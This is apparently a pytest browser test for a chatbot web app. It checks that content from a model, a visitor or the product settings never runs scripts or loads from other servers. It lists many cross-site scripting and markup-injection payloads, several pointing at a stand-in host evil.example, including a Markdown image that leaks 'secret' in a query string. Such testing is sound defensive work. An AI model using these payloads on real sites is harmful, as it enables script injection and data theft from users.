"""What a model, a visitor or the product says neither runs nor loads anything, in a real browser."""

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.browser_talks import say, settled
from tests.fake_model import fake_model
from tests.fake_openai import FakeOpenAI
from tests.shown import shown

pytestmark = pytest.mark.browser

ELSEWHERE = "http://evil.example"
PAYLOADS = [
    "<script>alert(1)</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<img src={ELSEWHERE}/a.png onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script><use href='data:image/svg+xml,x'/></svg>",
    f"<svg><image href='{ELSEWHERE}/b.png'/><a xlink:href='javascript:alert(1)'>x</a></svg>",
    f"<style>@import '{ELSEWHERE}/a.css'; body {{ background: url({ELSEWHERE}/c.png) }}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/b.css><link rel=prefetch href={ELSEWHERE}/p>",
    f"<div style='background:url({ELSEWHERE}/d.png);position:fixed;inset:0'>x</div>",
    f"<iframe src={ELSEWHERE}/></iframe><object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e>",
    f"<form action={ELSEWHERE}/f><button autofocus onfocus=alert(1)>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/m'><base href={ELSEWHERE}/>",
    f"<video poster={ELSEWHERE}/v.png src={ELSEWHERE}/v.mp4 autoplay></video><audio src={ELSEWHERE}/a.mp3></audio>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<math><mtext></table></math><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    f"![secret]({ELSEWHERE}/i.png?q=secret) ![r][1]\n\n[1]: {ELSEWHERE}/r.png",
    f"[![click]({ELSEWHERE}/j.png)]({ELSEWHERE}/k)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,<script>alert(1)</script>)",
    "[d](vbscript:x) <javascript:alert(1)> [e](\x01javascript:alert(1)) [f](//evil.example/x)",
    f"[g]({ELSEWHERE}/x 'onmouseover=alert(1)') [h](https://a\"onmouseover=alert(1)//x)",
    "```<img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```",
    "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <svg onload=alert(1)> | `<script>alert(1)</script>` |",
    "- [ ] <input onfocus=alert(1) autofocus>\n- <a id=body name=body>clobbered</a>",
    "${alert(1)} {{ 7*7 }} %NAME% <!-- --><?lit$1$?><!--?lit$1$-->",
]
NAME = "<img src=x onerror=alert(1)>\"'${alert(1)}%ROOT%</title><script>alert(1)</script>"
PRODUCT = f"""
starters = ['''{NAME}''', "</button><script>alert(1)</script>"]

[product]
name = '''{NAME}'''
tagline = "<svg onload=alert(1)>"
app = "chatbot"
"""


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeOpenAI]:
    rate = "100/minute"  # as many as there are payloads
    with fake_model(monkeypatch, LLM_MODEL="<svg onload=alert(1)>", LLM_API_KEY="a-key", RATE_VISITOR=rate) as fake:
        fake.scenario = "plain"
        yield fake


def test_nothing_that_is_said_runs_or_loads(
    page: Any, fake: FakeOpenAI, serve: Callable[[Path], httpx2.Client], write_project: Callable[..., Path]
) -> None:
    """The page fixture fails on a dialog, an error, a breach of the policy, or a request to another server."""
    faq = {"Saddles?": "Leather."}  # has no word of the payloads, so that a model is asked whatever the app
    page.goto(str(serve(write_project(PRODUCT, faq)).base_url))
    for number, payload in enumerate(PAYLOADS):
        fake.texts = [f"{payload}\n\nend {number}"]
        say(page, f"{payload}\n{number}")
        page.get_by_text(re.compile(rf"^end {number}\b")).wait_for()
        settled(page, number + 1)
    settled(page, len(PAYLOADS))
    page.reload()
    settled(page, len(PAYLOADS))
    assert page.evaluate(MADE) == []
    for link in page.locator(".body a[href]").all():
        assert link.get_attribute("rel") == "noopener"
        assert link.get_attribute("href").startswith(("http://", "https://"))
    is_kept = ELSEWHERE in shown(PAYLOADS[16])  # an app may take links out
    assert (page.locator("a[data-host='evil.example']").count() > 0) == is_kept


# Elements that what was said has made, and attributes that it has set, beyond those of plain text; a source's number is
# the app's own, and no reply can give anything a class.
MADE = """() => [...document.querySelectorAll(".body *, .said p *, .past span *, h1 *, .brand b *, .starters button *")]
  .filter((element) => !element.matches(".cite"))
  .filter((element) => /^(script|img|svg|style|link|iframe|object|embed|form|input|meta|base|video|audio|math)$/i
    .test(element.tagName) || [...element.attributes].some(({ name }) => /^on|^style$|^src|^name$|^title$/.test(name)))
  .map((element) => element.outerHTML)"""
